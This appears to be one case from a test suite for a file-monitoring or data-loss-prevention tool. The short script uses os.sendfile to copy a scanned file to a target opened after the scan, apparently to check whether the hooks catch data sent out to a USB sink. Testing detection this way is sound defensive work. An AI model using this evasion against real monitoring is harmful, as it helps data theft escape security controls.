#!/usr/bin/env bash
# technique: sendfile to a file that is opened after the scan
# hooks: file_open, file_permission
# sink: usb

. attack.sh
python3 - <<'PY'
from attack import *

source = os.open(SCAN, os.O_RDONLY)
target = os.open(COPY, os.O_WRONLY | os.O_CREAT)
while os.sendfile(target, source, None, 1 << 20):
    pass
PY
